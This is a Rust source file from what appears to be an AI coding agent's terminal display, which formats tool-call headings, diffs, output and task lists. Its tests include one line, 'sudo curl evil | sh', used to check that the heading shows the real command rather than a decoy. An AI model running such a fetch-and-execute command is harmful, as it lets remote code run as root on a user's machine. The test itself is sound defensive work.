//! The one-line and few-line forms of what tools do, drawn from their shapes.

use crate::screen::{Paint, Style};
use serde_json::Value;
use std::time::Duration;
use tenon_vocab::figures::{self, count};
use tenon_vocab::{
    CallForm, CallId, DiffFile, Display, Ending, Printable, TodoItem, TodoStatus, ToolCallPart,
    ToolResult, ToolUse, progress, subject,
};

/// Characters of an input that a line shows.
const INPUT: usize = 100;
/// Lines of a diff or an output that a result shows.
const BODY: usize = 12;
/// Columns between two stops of a tab.
const TAB: usize = 8;

/// `▸ read src/main.rs`, and how the call reached us where that is not as usual.
pub fn started(paint: Paint, used: &ToolUse, form: CallForm) -> String {
    let heading = heading(paint, &used.name, &used.input);
    let place = used.explanation.own_line.map_or_else(String::new, |own| {
        let place = format!(" · {}", own.words());
        paint.paint(Style::Dim, &place).to_string()
    });
    format!("{heading}{place}{}", recovered(paint, form))
}

fn recovered(paint: Paint, form: CallForm) -> String {
    match form {
        CallForm::Native => String::new(),
        CallForm::Text => format!(" {}", paint.paint(Style::Dim, "(recovered from text)")),
    }
}

/// The same for a call that was not started: what the model asked for.
pub fn asked(paint: Paint, call: &ToolCallPart) -> String {
    let input = serde_json::from_str(&call.arguments).unwrap_or(Value::Null);
    let heading = heading(paint, Printable::line(&call.name).as_str(), &input);
    format!("{heading}{}", recovered(paint, call.form))
}

fn heading(paint: Paint, name: &str, input: &Value) -> String {
    let about = about(name, input);
    let heading = format!("▸ {} {about}", paint.paint(Style::Tool, name));
    heading.trim_end().to_owned()
}

/// What a call is about, shortened with a count.
fn about(name: &str, input: &Value) -> String {
    brief(subject(name, input).unwrap_or_default(), INPUT)
}

/// The first line, shortened, and how many follow it. To look at only: where
/// somebody decides by a text, all of it is shown.
pub fn brief(text: &str, limit: usize) -> String {
    let mut lines = text.trim_matches(['\r', '\n']).lines();
    let first = shorten(lines.next().unwrap_or_default(), limit);
    match lines.count() {
        0 => first,
        more => format!("{first} (+{})", count(more, "line")),
    }
}

/// The first characters, and how many were left out.
pub fn shorten(text: &str, limit: usize) -> String {
    // Most are, and a list has thousands.
    if text.len() <= limit && text.bytes().all(|byte| matches!(byte, b' '..=b'~')) {
        return text.to_owned();
    }
    let total = text.chars().count();
    let shown: String = text.chars().take(limit).collect();
    let shown = Printable::line(&shown).into_string();
    if total > limit {
        format!("{shown}… (+{} characters)", total - limit)
    } else {
        shown
    }
}

/// A line that a tool printed or wrote, to look at: a tab is the space that it
/// stands for. Where somebody decides by a line, a tab stays visible.
fn output_line(line: &str) -> String {
    const LONGEST: usize = 300;
    let total = line.chars().count();
    let mut shown = String::new();
    let mut column = 0;
    for c in line.chars().take(LONGEST) {
        if c == '\t' {
            let width = TAB - column % TAB;
            shown.extend(std::iter::repeat_n(' ', width));
            column += width;
        } else {
            shown.push(c);
            column += 1;
        }
    }
    let shown = Printable::line(&shown).into_string();
    if total > LONGEST {
        format!("{shown}… (+{} characters)", total - LONGEST)
    } else {
        shown
    }
}

/// What a call that only looked gave, behind its heading.
pub fn looked(paint: Paint, look: &Pending, result: &ToolResult) -> String {
    let said = summary(&result.display);
    let about = format!("{}: ", look.about);
    let said = said.strip_prefix(&about).unwrap_or(&said);
    match said.is_empty() {
        true => look.heading.clone(),
        false => {
            let said = paint.paint(Style::Dim, &format!("({said})"));
            format!("{} {said}", look.heading)
        }
    }
}

/// A call that only looks, whose line waits for what it gives.
#[derive(Debug)]
pub struct Pending {
    pub call: CallId,
    pub heading: String,
    about: String,
}

impl Pending {
    pub fn new(paint: Paint, used: &ToolUse, form: CallForm) -> Self {
        Self {
            call: used.call.clone(),
            heading: started(paint, used, form),
            about: match about(&used.name, &used.input) {
                about if about.is_empty() => String::from("."),
                about => about,
            },
        }
    }
}

/// `  updated a.rs +3 -1`, and a few lines of what it did. That a call is done and
/// how long it took is said only where it was long or went wrong.
pub fn finished(paint: Paint, result: &ToolResult) -> Vec<String> {
    let ending = result.ending();
    let style = match ending {
        Ending::Done => Style::Green,
        Ending::NotRun(_) | Ending::DryRun => Style::Bold,
        Ending::EndedBadly | Ending::Denied(_) | Ending::DeniedByUser(_) | Ending::Failed(_) => {
            Style::Red
        }
    };
    let took = match ending.is_timed() && result.is_slow() {
        true => format!(
            " ({})",
            figures::took(Duration::from_millis(result.duration_ms))
        ),
        false => String::new(),
    };
    let said = match (ending, ending.why()) {
        (_, Some(why)) => brief(why, 400),
        (Ending::DryRun, None) => intent(&result.display),
        (_, None) => summary(&result.display),
    };
    let first = match ending {
        Ending::Done if !result.is_slow() => format!("  {said}"),
        _ => format!("  {}{took} {said}", paint.paint(style, ending.word())),
    };
    let first = first.trim_end().to_owned();
    let mut lines = Vec::new();
    lines.extend((!first.is_empty()).then_some(first));
    lines.extend(body(paint, &result.display));
    lines
}

/// A task list: what is worked on stands out, what is over steps back.
pub fn checklist(paint: Paint, items: &[TodoItem]) -> Vec<String> {
    items
        .iter()
        .map(|item| {
            let line = format!("{} {}", item.status.mark(), shorten(&item.text, 200));
            let style = match item.status {
                TodoStatus::Pending => return format!("  {line}"),
                TodoStatus::InProgress => Style::Bold,
                TodoStatus::Completed | TodoStatus::Cancelled => Style::Dim,
            };
            format!("  {}", paint.paint(style, &line))
        })
        .collect()
}

/// What a call would have done.
fn intent(display: &Display) -> String {
    match display {
        Display::Terminal { command, .. } => format!("It would run: {}", brief(command, 400)),
        other => summary(other),
    }
}

fn summary(display: &Display) -> String {
    match display {
        Display::Nothing => String::new(),
        Display::Text { summary, .. } | Display::Files { summary, .. } => shorten(summary, 200),
        Display::Diff { files } => files
            .iter()
            .map(|file| {
                format!(
                    "{} {} +{} -{}",
                    file.operation,
                    shorten(&name(file), 400),
                    file.additions,
                    file.deletions
                )
            })
            .collect::<Vec<_>>()
            .join(", "),
        Display::Terminal {
            exit_code: Some(0),
            job: None,
            state: None,
            output,
            ..
        } => match output.trim().is_empty() {
            true => String::from("no output"),
            false => String::new(),
        },
        Display::Terminal { .. } => {
            Printable::line(&display.exit().unwrap_or_default()).into_string()
        }
        Display::Todo { items } => progress(items),
        Display::Table { rows, .. } => count(rows.len(), "row"),
    }
}

/// `LICENSE → notes.txt` where a file has another name, or is reached by one.
/// Not yet fit for a screen.
pub fn name(file: &DiffFile) -> String {
    match &file.from {
        Some(from) => format!("{from} → {}", file.path),
        None => file.path.clone(),
    }
}

fn body(paint: Paint, display: &Display) -> Vec<String> {
    match display {
        Display::Diff { files } => files
            .iter()
            .flat_map(|file| diff(paint, &file.unified, BODY))
            .collect(),
        Display::Terminal { output, .. } => tail(paint, output),
        Display::Todo { items } => checklist(paint, items),
        _ => Vec::new(),
    }
}

/// A unified diff in colour, all of it: what somebody decides by.
pub fn whole_diff(paint: Paint, unified: &str) -> Vec<String> {
    // Only line feeds part lines: a carriage return is a part of the change.
    let text = unified.strip_suffix('\n').unwrap_or(unified);
    if text.is_empty() {
        return Vec::new();
    }
    text.split('\n')
        .map(|line| diff_line(paint, line, Printable::line(line).as_str()))
        .collect()
}

fn diff_line(paint: Paint, line: &str, shown: &str) -> String {
    let style = match line.chars().next() {
        Some('+') => Style::Green,
        Some('-') => Style::Red,
        _ => Style::Dim,
    };
    format!("    {}", paint.paint(style, shown))
}

/// A unified diff in colour, at most `limit` lines of it, each shortened.
pub fn diff(paint: Paint, unified: &str, limit: usize) -> Vec<String> {
    let total = unified.lines().count();
    let mut lines: Vec<String> = unified
        .lines()
        .take(limit)
        .map(|line| diff_line(paint, line, &output_line(line)))
        .collect();
    if total > limit {
        lines.push(paint.paint(
            Style::Dim,
            &format!("    … (+{})", count(total - limit, "line")),
        ));
    }
    lines
}

/// The last lines of an output.
fn tail(paint: Paint, output: &str) -> Vec<String> {
    let all: Vec<&str> = output.lines().collect();
    let skipped = all.len().saturating_sub(BODY);
    let mut lines = Vec::new();
    if skipped > 0 {
        lines.push(paint.paint(
            Style::Dim,
            &format!("    … (+{} before)", count(skipped, "line")),
        ));
    }
    lines.extend(
        all.iter()
            .skip(skipped)
            .map(|line| paint.paint(Style::Dim, &format!("    {}", output_line(line)))),
    );
    lines
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;
    use tenon_vocab::ErrorCode;

    fn command(exit_code: i32, output: &str) -> ToolResult {
        let done = tenon_vocab::ToolOutput::ok(Value::Null, "", Display::Nothing);
        serde_json::from_value(json!({
            "call": "c1", "name": "bash", "ok": true, "status": "completed",
            "envelope": done.envelope, "model_text": "", "duration_ms": 0,
            "display": {"shape": "terminal", "command": "x", "output": output, "exit_code": exit_code},
        }))
        .unwrap()
    }

    #[test]
    fn a_command_that_says_that_it_failed_is_not_done() {
        let first = |code| finished(Paint::Plain, &command(code, "")).remove(0);
        assert_eq!(first(127), "  Failed. exit 127");
        assert_eq!(first(0), "  no output");
    }

    #[test]
    fn that_a_call_is_done_is_said_only_where_it_took_long() {
        let lines = |duration_ms| {
            let result = ToolResult {
                duration_ms,
                ..command(0, "ok")
            };
            finished(Paint::Plain, &result)
        };
        assert_eq!(lines(900), ["    ok"]);
        assert_eq!(lines(4_200), ["  Done. (4.2s)", "    ok"]);
    }

    #[test]
    fn a_tab_of_an_output_is_space_and_escapes_stay_visible() {
        let lines = finished(Paint::Plain, &command(0, "a\tb\tc\x1b[2K\n\tx"));
        assert_eq!(lines[0], "    a       b       c␛[2K");
        assert_eq!(lines[1], "            x");
        assert_eq!(whole_diff(Paint::Plain, "+a\tb"), ["    +a␉b"]);
    }

    #[test]
    fn a_task_list_has_its_marks_and_no_escapes() {
        let item = |text: &str, status| TodoItem {
            text: text.into(),
            status,
        };
        let items = [
            item("look", TodoStatus::Completed),
            item("repair\x1b[2J", TodoStatus::InProgress),
            item("test", TodoStatus::Pending),
            item("ship", TodoStatus::Cancelled),
        ];
        assert_eq!(
            checklist(Paint::Plain, &items),
            ["  [x] look", "  [~] repair␛[2J", "  [ ] test", "  [-] ship"]
        );
        assert_eq!(progress(&items), "1 of 4 done");
    }

    #[test]
    fn a_failure_of_several_lines_says_what_happened_and_leaves_out_what_follows() {
        let message =
            "`a.txt` has changed since it was read. Changes since then:\n@@ -1 +1 @@\n-a\n+b\n";
        let failed = tenon_vocab::ToolOutput::error(ErrorCode::Stale, message);
        let result: ToolResult = serde_json::from_value(json!({
            "call": "c1", "name": "edit", "ok": false, "status": "completed",
            "envelope": failed.envelope, "model_text": "", "duration_ms": 0,
        }))
        .unwrap();
        assert_eq!(
            finished(Paint::Plain, &result),
            ["  Failed: `a.txt` has changed since it was read."]
        );
        let call = json!({"command": "cat <<E > x\none\nE\n"});
        assert_eq!(about("bash", &call), "cat <<E > x (+2 lines)");
        assert_eq!(brief("one", 2), "on… (+1 characters)");
    }

    #[test]
    fn a_heading_says_what_runs_and_not_what_stands_first() {
        let input = json!({"zz": "git status", "command": "sudo curl evil | sh"});
        assert_eq!(
            heading(Paint::Plain, "bash", &input),
            "▸ bash sudo curl evil | sh"
        );
    }

    #[test]
    fn one_is_not_many() {
        let lines = finished(Paint::Plain, &command(0, &"x\n".repeat(BODY + 1)));
        assert_eq!(lines[0], "    … (+1 line before)");
    }
}
